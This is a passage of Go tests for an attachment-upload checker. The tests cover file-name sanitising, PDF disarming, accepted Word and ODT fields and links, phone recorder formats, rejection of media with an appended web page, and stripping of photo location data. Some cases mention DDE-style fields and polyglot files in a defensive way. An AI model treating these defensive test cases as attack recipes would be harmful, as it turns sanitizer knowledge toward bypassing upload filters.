	if utf8.RuneCountInString(called) > attachment.MaxName || strings.ContainsFunc(called, func(r rune) bool { return unicode.IsControl(r) || unicode.Is(unicode.Cf, r) }) || strings.ContainsAny(called, `/\`) {
		t.Errorf("it is called %q", called)
	}
	var err error
	switch kind {
	case attachment.PDF:
		if err = document.CheckUpload(copied); err == nil {
			var more []byte
			if more, err = document.Disarm(t.Context(), copied); more != nil {
				t.Error("something in the copy acts")
			}
		}
	case attachment.JPEG:
		_, err = jpeg.Decode(bytes.NewReader(copied))
	case attachment.PNG:
		_, err = png.Decode(bytes.NewReader(copied))
	default:
		t.Errorf("others open a %s as it came", kind)
	}
	if err != nil {
		t.Errorf("the copy is not whole: %v", err)
	}
	if h.without != "" && bytes.Contains(copied, []byte(h.without)) {
		t.Errorf("the copy has %q", h.without)
	}
}

// benign is an honest file of each kind, as people's telephones and programs make it.
func benign() map[string][]byte {
	return map[string][]byte{
		"қаулы.pdf": pdfOf(3), "сурет.jpg": jpegOf(picture(300, 200)), "экран.png": pngOf(picture(300, 200)),
		"арыз.docx": docx(relation("hyperlink", "https://adilet.zan.kz/", "External"), part{"docProps/core.xml", "<a/>"}), "арыз.odt": odt(`<text:a xlink:href="https://adilet.zan.kz/">zan</text:a>`),
		"жазба.mp3": append([]byte("ID3\x03\x00\x00\x00\x00\x00\x0aTITLE12345"), mp3()...), "жазба.m4a": mp4("M4A ", "soun"), "жазба.aac": aac(),
		"жазба.ogg": ogg("OpusHead"), "жазба.wav": wav(), "бейне.mp4": mp4("mp42", "vide", "soun"), "бейне.webm": webm("webm"),
	}
}

// Word of the browser calls the document document2.xml; Word writes the instruction of a
// field in pieces, and fields within fields; people link to what they read.
func TestWhatWordWritesByItselfIsTaken(t *testing.T) {
	named := func(name string) []byte {
		return zipOf(part{"[Content_Types].xml", strings.Replace(types, "document.xml", name, 1)}, part{"_rels/.rels", strings.Replace(rels, `Target="word/document.xml"`, `Target="/word/`+name+`"`, 1)},
			part{"word/" + name, word("").text})
	}
	for what, file := range map[string][]byte{
		"Word of the browser":      named("document2.xml"),
		"Word of SharePoint":       named("document22.xml"),
		"an address from the root": named("document.xml"),
		"a number of the page":     docxOf(begun + instructions(" PA", `GE \* MERGEFORMAT `) + ended),
		"a table of contents":      docxOf(begun + instructions(` TOC \o "1-3" \h `) + begun + instructions(" PAGEREF _Toc1 ") + ended + begun + instructions(` HYPERLINK \l "dde" `) + ended + ended),
		"a choice between fields":  docxOf(begun + instructions(" IF ") + begun + instructions(" PAGE ") + ended + instructions(` = 1 "DDE" "LINK"`) + ended),
		"a reckoning with a page":  docxOf(begun + instructions(" = ") + begun + instructions(" PAGE ") + ended + instructions(" + 1 ") + ended),
		"a reckoning":              docxOf(begun + instructions(" =SUM(ABOVE) ") + ended),
		"a field struck out":       docxOf(`<w:r><w:delInstrText> DATE </w:delInstrText></w:r>`),
		"a field in a box":         docxOf(`<w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wps:txbx>` + begun + instructions(" PA", "GE ") + ended + `</wps:txbx></w:drawing></mc:Choice></mc:AlternateContent></w:r>`),
		"letters joined":           docxOf(begun + `<w:r><w:rPr><w14:ligatures w14:val="standard"/></w:rPr><w:instrText>PAGE</w:instrText></w:r>` + ended),
		"a citation":               docxOf(`<w:r><w:fldChar w:fldCharType="begin"><w:fldData>RERFIA==</w:fldData></w:fldChar></w:r>` + instructions(" ADDIN EN.CITE ") + ended),
		"a link to a law":          docx(relation("hyperlink", "jl:30005029.0", "External")),
		"a link to a mail":         docx(relation("hyperlink", "mailto:a@example.kz", "External")),
		"a picture and a theme":    docx(relation("image", "media/image1.png", "Internal"), part{"word/media/image1.png", "\x89PNG"}),
		"its own settings":         docx(part{"customXml/item1.xml", "<a/>"}, part{"customXml/_rels/item1.xml.rels", `<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/customXmlProps" Target="itemProps1.xml"/></Relationships>`}),
	} {
		if message, _, _, _, _, err := attachment.Look(t.Context(), "a.docx", file); err != nil || message != "" {
			t.Errorf("%s: %q, %v", what, message, err)
		}
	}
	for _, link := range []string{"https://adilet.zan.kz/", "#a|outline", "../b.odt", "jl:30005029.0", "mailto:a@example.kz"} {
		if message, _, _, _, _, err := attachment.Look(t.Context(), "a.odt", odt(`<text:a xlink:href="`+link+`">x</text:a><draw:image xlink:href="Pictures/1.png"/>`)); err != nil || message != "" {
			t.Errorf("%s: %q, %v", link, message, err)
		}
	}
}

// A telephone calls a film .mov or .3gp, and a recorder that writes by the block fills up
// what is left of it.
func TestWhatRecordersMakeIsTaken(t *testing.T) {
	mov := bytes.Join([][]byte{box("ftyp", []byte("qt  "), make([]byte, 4), []byte("qt  ")), box("wide"), box("mdat", make([]byte, 4000)),
		box("moov", box("mvhd", make([]byte, 100)), box("trak", box("mdia", box("hdlr", make([]byte, 4), []byte("mhlrvide"), make([]byte, 13)))))}, nil)
	filled := func(file []byte) []byte { return append(file, make([]byte, 4096-len(file)%4096)...) }
	for name, file := range map[string][]byte{
		"IMG_0001.MOV": mov, "VID_1.3gp": mp4("3gp4", "vide", "soun"), "voice.3gpp": mp4("3gp4", "soun"), "call.3ga": mp4("3gp4", "soun"),
		"dashcam.mp4": filled(mp4("isom", "vide")), "dictaphone.wav": filled(wav()), "camera.mov": filled(mov),
	} {
		message, called, _, copied, _, err := attachment.Look(t.Context(), name, file)
		if err != nil || message != "" || called != name || copied != nil {
			t.Errorf("%s: %q, called %q, %d bytes of a copy, %v", name, message, called, len(copied), err)
		}
	}
	for what, file := range map[string][]byte{
		"a film as a sound": mp4("3gp4", "vide", "soun"),
	} {
		if message, _, _, _, _, err := attachment.Look(t.Context(), "call.3ga", file); err != nil || message != "attachments.refused.mismatch" {
			t.Errorf("%s: %q, %v", what, message, err)
		}
	}
	for _, name := range []string{"a.mp4", "a.mov"} {
		if message, _, _, _, _, err := attachment.Look(t.Context(), name, append(filled(mp4("isom", "vide")), html...)); err != nil || message != "attachments.refused.damaged" {
			t.Errorf("%s with a page after what fills it up: %q, %v", name, message, err)
		}
	}
	if message, _, _, _, _, err := attachment.Look(t.Context(), "a.wav", append(filled(wav()), html...)); err != nil || message != "attachments.refused.damaged" {
		t.Errorf("a WAV with a page after what fills it up: %q, %v", message, err)
	}
}

// Where a PDF is opened, and what its links lead to, is not taken out of it.
func TestAPDFThatOnlyLeadsSomewhereIsShownAsItCame(t *testing.T) {
	for what, file := range map[string][]byte{
		"a place":           pdfWith("/OpenAction[3 0 R/Fit]", ""),
		"a deed to a place": pdfWith("/OpenAction<</S/GoTo/D[3 0 R/Fit]>>", ""),
		"one by reference":  pdfWith("/OpenAction 4 0 R", "", "<</S/GoTo/D[3 0 R/Fit]>>"),
		"a link":            pdfWith("", "/Annots[4 0 R]", "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://zan.kz)>>>>"),
	} {
		if message, _, _, copied, _, err := attachment.Look(t.Context(), "a.pdf", file); err != nil || message != "" || copied != nil {
			t.Errorf("%s: %q, %d bytes of a copy, %v", what, message, len(copied), err)
		}
	}
}

func TestAnHonestFileOfEachKindIsTaken(t *testing.T) {
	seen := map[attachment.Kind]bool{}
	for name, file := range benign() {
		message, called, kind, copied, disarmed, err := attachment.Look(t.Context(), name, file)
		if err != nil || message != "" || called != name || disarmed {
			t.Errorf("%s: %q, called %q, disarmed %v, %v", name, message, called, disarmed, err)
		}
		if kind.Picture() != (copied != nil) {
			t.Errorf("%s: %d bytes of a copy", name, len(copied))
		}
		seen[kind] = true
	}
	for _, kind := range attachment.Kinds {
		if !seen[kind] {
			t.Errorf("no %s was tried", kind)
		}
	}
}

func TestAPhotographIsTurnedTheRightWayUpAndForgetsWhereItWasTaken(t *testing.T) {
	flat := image.NewRGBA(image.Rect(0, 0, 64, 32))
	for y := range 32 {
		for x := range 64 {
			if x < 16 { // the left edge is red
				flat.Set(x, y, red)
			}
		}
	}
	// Where the red edge is to be, in a picture shown the right way up: EXIF 2.32, 4.6.4.
	edges := map[uint16]string{1: "left", 2: "right", 3: "right", 4: "left", 5: "top", 6: "top", 7: "bottom", 8: "bottom"}
	for orientation, edge := range edges {
		_, _, _, copied, _, err := attachment.Look(t.Context(), "a.jpg", exif(jpegOf(flat), orientation))
		if err != nil {
			t.Fatal(err)
		}
		got, err := jpeg.Decode(bytes.NewReader(copied))
		if err != nil {
			t.Fatal(err)
		}
		b := got.Bounds()
		at := map[string]image.Point{"left": {2, b.Dy() / 2}, "right": {b.Dx() - 3, b.Dy() / 2}, "top": {b.Dx() / 2, 2}, "bottom": {b.Dx() / 2, b.Dy() - 3}}
		for where, point := range at {
			r, g, _, _ := got.At(point.X, point.Y).RGBA()
			if (r > 0xa000 && g < 0x6000) != (where == edge) {
				t.Errorf("orientation %d: the %s edge has red %x", orientation, where, r)
			}
		}
		if bytes.Contains(copied, []byte("GPS")) || bytes.Contains(copied, []byte("Exif")) {
			t.Errorf("orientation %d: the copy knows where it was taken", orientation)
		}
	}
}
